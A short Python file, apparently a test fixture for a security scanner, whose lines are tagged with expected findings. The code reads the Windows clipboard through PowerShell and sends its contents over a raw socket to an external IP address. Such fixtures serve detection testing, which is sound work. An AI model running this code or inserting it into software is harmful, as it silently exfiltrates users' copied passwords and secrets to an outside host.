# ruff: noqa
# fmt: off
"""Windows clipboard through PowerShell's Get-Clipboard."""
import socket
import subprocess

clip = subprocess.check_output(["powershell", "-NoProfile", "-Command", "Get-Clipboard"])  # expect: clipboard-access
s = socket.create_connection(("91.92.240.31", 443))  # expect: raw-ip-url
s.sendall(clip)  # expect: exfiltrate-sensitive-data
